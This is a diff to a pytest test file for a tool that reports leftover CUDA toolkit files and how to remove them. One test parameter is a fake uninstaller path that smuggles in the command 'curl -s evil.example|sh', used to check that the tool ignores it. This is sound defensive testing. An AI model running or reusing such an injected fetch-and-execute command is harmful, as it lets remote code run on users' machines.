@@ -69,9 +69,11 @@ def test_unpackaged_toolkit_is_noted_with_its_uninstaller() -> None:
 @pytest.mark.parametrize("others", [(), ("/usr/local/cuda-12.6/bin/uninstall_cuda_12.6;curl -s evil.example|sh;",)])
 def test_toolkit_without_uninstaller_is_removed_by_hand(others: tuple[str, ...]) -> None:
     """A capture may call any program an uninstaller."""
-    note = only_note(machine(leftovers=frozenset({NVCC, *others})))
-    assert "evil" not in note
-    assert "/usr/local/cuda-12.6 and /etc/ld.so.conf.d/cuda-12-6.conf" in note
+    leftovers = frozenset({NVCC, *others})
+    assert only_note(machine(leftovers=leftovers)).endswith("it has no uninstaller: remove /usr/local/cuda-12.6 by hand")
+    loader = {LOADER: b"# CUDA\n/usr/local/cuda-12.6/targets/x86_64-linux/lib\n/usr/local/cuda-12.60/lib\n"}
+    note = only_note(machine(leftovers=leftovers, files=loader))
+    assert note.endswith(f"remove /usr/local/cuda-12.6 and line 2 of {LOADER} by hand")
 
 
 @pytest.mark.parametrize("owner", ["cuda-nvcc-12-6", "cuda-compiler-12-6"])
